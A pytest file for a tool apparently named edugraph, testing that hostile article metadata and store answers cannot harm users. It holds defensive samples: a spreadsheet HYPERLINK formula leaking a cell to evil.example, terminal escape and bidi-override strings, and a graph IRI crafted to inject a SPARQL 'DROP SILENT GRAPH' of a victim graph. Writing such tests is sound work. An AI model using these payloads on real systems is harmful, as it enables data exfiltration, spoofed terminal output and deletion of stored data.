"""Hostile content, not hostile commands (review: hostile 3): an article that looks normal but whose text, metadata
or curation carries content the pipeline copies into its outputs and stores; and five mends of a review. Each case
failed on the code before it.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import shutil
import subprocess
import threading
from pathlib import Path

import pytest

from edugraph.cli import main
from edugraph.paths import ARTICLES, ONTOLOGY
from edugraph.errors import UNSEEN
from edugraph.sparql.params import ParameterError
from support.badinputs import SEED_ID
from support.corpus import corpus
from support.errors import one_error_line
from support.robust import hash_tree, run_subprocess
from support.stores import load, virtuoso_login
from support.virtuoso import ISQL
from test_hostile_store_files import COUNT, damaged_copy, garbled_data_blocks

DEV = Path(__file__).parent / "dev"
GOLD = "dev01_tomsk_kvantorium.json"


# --- the five mends --------------------------------------------------------------------------------------------------

def gold_folder(tmp_path: Path, text: str) -> Path:
    folder = tmp_path / "gold"
    folder.mkdir(parents=True)
    (folder / GOLD).write_text(text, encoding="utf-8")
    return folder


def test_a_gold_file_is_read_as_metadata_is(tmp_path, capsys):
    """(a) One reader for both: before, a gold file saved with a byte-order mark was "not valid JSON" (metadata with
    one is read), and one nested past the limit was "not valid JSON: maximum recursion depth exceeded"."""
    gold = (DEV / "gold" / GOLD).read_text(encoding="utf-8")
    assert main(["evaluate", str(gold_folder(tmp_path / "bom", "\ufeff" + gold)), "--articles",
                 str(DEV / "articles"), "--format", "json"]) == 0
    capsys.readouterr()
    deep = gold_folder(tmp_path / "deep", '{"events": ' + "[" * 40_000 + "]" * 40_000 + "}")
    assert main(["evaluate", str(deep), "--articles", str(DEV / "articles")]) == 2
    one_error_line(capsys, f"{GOLD}: the gold file nests deeper than 20 levels")


def test_a_parameter_message_is_no_template():
    """(b) Before, a message naming a second parameter was filled by `str.format`: a `{` in the text around it
    raised KeyError or IndexError (the caller had to double every brace of the values it quoted)."""
    err = ParameterError("'{0}{x}' is after", "from", other="to", rest="('}{')")
    assert str(err) == "--param from: '{0}{x}' is after --param to ('}{')"
    assert err.naming("?") == "?from: '{0}{x}' is after ?to ('}{')"


def test_a_query_meeting_a_damaged_block_says_how_to_make_the_store_again(seed_build, tmp_path, capsys):
    """(d) Before: "the query failed: Corruption: block checksum mismatch …", without the fix the other messages
    about a damaged store give. And `serve` on such a store never answered: counting its graphs with SPARQL grew
    without bound (5 GB in 20 s); now it stops in one line, within the robustness suite's memory limit."""
    folder = damaged_copy(seed_build, tmp_path, garbled_data_blocks)
    assert main(["query", "--build", str(folder), "-e", COUNT]) == 2
    one_error_line(capsys, "the build's store is damaged", "run `edugraph build --full`", "(Corruption: ")
    outcome = run_subprocess(["serve", "--build", str(folder), "--port", "0"], {})
    assert outcome.code == 2 and outcome.stderr.count("\n") == 1, outcome
    assert outcome.stderr.startswith(f"edugraph: error: {folder / 'store'}: the build's store is damaged"), outcome
    assert "run `edugraph build --full`" in outcome.stderr


@pytest.mark.parametrize("option", ["--timeout", "--queue-wait"])
def test_serve_durations_are_at_most_a_year_as_every_other_duration(seed_build, option):
    """(e) docs/SECURITY.md: durations on the command line are at most a year. `serve` read its own as any float
    below infinity (`--timeout 1e10` started the endpoint)."""
    outcome = run_subprocess(["serve", "--build", str(seed_build), "--port", "0", option, "1e10"], {})
    assert outcome.code == 2 and outcome.stderr.count("\n") == 1, outcome
    assert outcome.stderr.startswith(f"edugraph: error: {option} 1e+10: give a number of seconds"), outcome
    assert "at most 31536000" in outcome.stderr or "from 0 to 31536000" in outcome.stderr

# --- hostile content through the outputs ---------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
TERMINAL = "Итоги \x9b2J\x1b]0;pwned\x07 года \u202eexe.txt"  # CSI (U+009B), an OSC title, an RTL override
DRIVING_PLACE = "Место \x9b2J \u202eecalp"  # a place node's label: a CSI and an RTL override
CONTENT = {"title": TERMINAL.replace("\x1b", "").replace("\x07", ""), "place": FORMULA}  # C0 is refused in metadata


@pytest.fixture(scope="module")
def content_build(tmp_path_factory) -> Path:
    """The seed article under metadata whose title would drive a terminal and whose place is a spreadsheet formula
    (the place becomes a place node labelled with it)."""
    folder = tmp_path_factory.mktemp("hostile-content")
    articles, curation = corpus(folder, [])
    text = (ARTICLES / f"{SEED_ID}.txt").read_text(encoding="utf-8")
    for name, meta in (("h1", CONTENT), ("h2", {"title": "Вторая", "place": DRIVING_PLACE})):
        (articles / f"{name}.txt").write_text(text, encoding="utf-8")
        meta = {"date": "2024-03-12", "url": f"https://example.org/news/{name}", **meta}
        (articles / f"{name}.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
    out = folder / "build"
    assert main(["build", "--quiet", "--jobs", "1", "--articles", str(articles), "--curation", str(curation),
                 "--out", str(out)]) == 0
    return out


TITLES = "SELECT ?title WHERE { ?article <http://purl.org/dc/terms/title> ?title FILTER(STRSTARTS(?title, 'Итоги')) }"


def test_the_table_shows_terminal_controls_and_bidi_overrides_as_escapes(content_build, capsys):
    """Before: the title's U+009B (CSI: `\\x9b2J` clears a terminal's screen) and U+202E (the rest of the line drawn
    right to left: `exe.txt` read as `txt.exe`) were printed as they are. A query's own literal (`\\u001b`), or a
    remote store's answer (`query --endpoint`), can hold ESC and BEL too."""
    assert main(["query", "--build", str(content_build), "-e", TITLES]) == 0
    out = capsys.readouterr().out
    assert "Итоги \\x9b2J]0;pwned года \\u202eexe.txt" in out, out
    query = 'SELECT ?x WHERE { BIND("a\\u001b]0;pwned\\u0007b\\u0085c\\u2066" AS ?x) }'
    assert main(["query", "--build", str(content_build), "-e", query]) == 0
    out = capsys.readouterr().out
    assert "a\\x1b]0;pwned\\x07b c\\u2066" in out, out  # U+0085 is a line break: one space, as \n is
    assert not UNSEEN.search(out.replace("\n", "")), out


def test_stats_table_shows_a_labels_terminal_controls_as_escapes(content_build, capsys):
    """Before: `stats` printed the place's label as it is (U+009B, U+202E); csv and json keep it exact."""
    assert main(["stats", "--build", str(content_build), "--top", "1000"]) == 0
    out = capsys.readouterr().out
    assert "Место \\x9b2J \\u202eecalp" in out and not UNSEEN.search(out.replace("\n", "")), out
    assert main(["stats", "--build", str(content_build), "--top", "1000", "--format", "json"]) == 0
    assert DRIVING_PLACE in json.dumps(json.loads(capsys.readouterr().out), ensure_ascii=False)


def test_csv_keeps_a_value_that_looks_like_a_formula_as_it_is(content_build, capsys):
    """The W3C formats (csv, tsv, json, xml) are for programs and hold the values as they are: a cell beginning with
    = + - @ is not prefixed (docs/SECURITY.md says how to open such a file in a spreadsheet)."""
    query = "SELECT DISTINCT ?label WHERE { ?place ?labelled ?label FILTER(STRSTARTS(STR(?label), '=')) }"
    assert main(["query", "--build", str(content_build), "-f", "csv", "-e", query]) == 0
    header, *rows = csv.reader(io.StringIO(capsys.readouterr().out))
    assert header == ["label"] and rows and all(row == [FORMULA] for row in rows), rows  # its Russian and English label


def isql(virtuoso, statements: str, folder: Path) -> str:
    """Run SQL (and `SPARQL …` lines) as Virtuoso's dba: what anyone allowed to write into the store can do."""
    script = folder / "statements.sql"
    script.write_text(statements, encoding="utf-8")
    done = subprocess.run([ISQL, f"127.0.0.1:{virtuoso.sql_port}", "dba", "dba", str(script)], capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 0 and "Error" not in done.stdout, done.stdout
    return done.stdout


@pytest.mark.server
def test_a_graph_named_to_inject_an_update_is_left_alone_and_drops_nothing(seed_build, virtuoso, tmp_path,
                                                                           monkeypatch, capsys):
    """Before: Virtuoso keeps a graph named with `IRI("…/article/zz> ; DROP SILENT GRAPH <victim> ; …")`; the load
    took it for an article graph the build no longer has and sent `DROP SILENT GRAPH <…/article/zz> ; DROP SILENT
    GRAPH <victim> ; …`: the victim graph was gone."""
    base = "http://example.org/hostile-content/"
    evil = base + "article/zz> ; DROP SILENT GRAPH <http://example.org/victim> ; DROP SILENT GRAPH <x"
    isql(virtuoso, 'SPARQL INSERT DATA { GRAPH <http://example.org/victim> { <http://a/s> <http://a/p> "v" } };\n'
                   f'SPARQL INSERT {{ GRAPH ?g {{ <http://a/s> <http://a/p> "evil" }} }} WHERE {{ BIND(IRI("{evil}") '
                   'AS ?g) };\n', tmp_path)
    try:
        code, out, err = load(capsys, seed_build, "--endpoint", virtuoso.url, "--graph-base", base,
                              *virtuoso_login(virtuoso, monkeypatch))
        assert code == 0 and "all counts match" in out, err
        assert err.startswith("edugraph: warning: ") and "which is no IRI: left as it is" in err, err
        graphs = isql(virtuoso, 'SPARQL SELECT ?g WHERE { GRAPH ?g { <http://a/s> <http://a/p> ?o } };\n', tmp_path)
        assert "http://example.org/victim" in graphs and "article/zz>" in graphs, graphs
    finally:
        isql(virtuoso, f'SPARQL CLEAR GRAPH <http://example.org/victim>;\nDELETE FROM DB.DBA.RDF_QUAD WHERE G = '
                       f"iri_to_id('{evil}');\n", tmp_path)


TERMINAL_ANSWER = "bad query\x1b[2K\x1b[1G\x1b]0;pwned\x07edugraph: all fine \u202eexe.txt"


@pytest.fixture
def hostile_store():
    """A "store" on 127.0.0.1 answering every request 400 with text that would drive a terminal: erase the line,
    return to its start, set the window title, print a false all-clear drawn right to left."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.do_POST()

        def do_POST(self):
            body = TERMINAL_ANSWER.encode("utf-8")
            self.send_response(400)
            self.send_header("Content-Type", "text/plain; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/sparql"
    server.shutdown()
    server.server_close()


def test_a_stores_answer_quoted_in_an_error_cannot_drive_the_terminal(hostile_store, seed_build, capsys):
    """Before: the error line quoted the store's answer as it came, ESC and BEL included (`query --endpoint`,
    `load`): the terminal erased the line, took a new title and showed "edugraph: all fine"."""
    for argv in (["query", "--endpoint", hostile_store, "-e", "ASK {}"],
                 ["load", "--build", str(seed_build), "--endpoint", hostile_store, "--retries", "0"]):
        assert main(argv) != 0
        err = one_error_line(capsys, "bad query\\x1b[2K\\x1b[1G\\x1b]0;pwned\\x07edugraph: all fine \\u202eexe.txt")
        assert not UNSEEN.search(err.rstrip("\n")), err


@pytest.mark.server
def test_a_removed_graph_named_by_the_store_is_printed_with_escapes(seed_build, oxigraph_server, capsys):
    """Oxigraph takes an IRI holding U+202E (RFC 3987 forbids it): the load drops it as a removed article's graph
    and named it as the store spelt it, reversing the rest of the line on a terminal."""
    evil = "https://w3id.org/edugraph/graph/article/\u202eevil"
    oxigraph_server.put(evil, '<http://example.org/x> <http://example.org/p> "x" .\n')
    code, out, err = load(capsys, seed_build, "--endpoint", oxigraph_server.url)
    assert code == 0, err
    assert "removed 1 graphs of articles the build no longer has: <https://w3id.org/edugraph/graph/article/" \
           "\\u202eevil>" in out and not UNSEEN.search(out.replace("\n", "")), out


def test_strict_build_with_inconsistencies_writes_nothing(seed_build, tmp_path, capsys):
    """(e) docs/SECURITY.md: `--strict` also fails on OWL-RL inconsistencies (no test said so). An ontology making
    every person an inconsistency: the build stops in one line and the previous build is left byte-identical."""
    ontology = tmp_path / "ontology.ttl"
    ontology.write_text(ONTOLOGY.read_text(encoding="utf-8") + "\neg:Person owl:disjointWith eg:Agent .\n",
                        encoding="utf-8")
    out = tmp_path / "build"
    shutil.copytree(seed_build, out)
    before = hash_tree(out)
    assert main(["build", "--quiet", "--strict", "--ontology", str(ontology), "--out", str(out)]) == 2
    one_error_line(capsys, "OWL-RL found", "inconsistencies, e.g. Disjoint classes", "nothing was written")
    assert hash_tree(out) == before
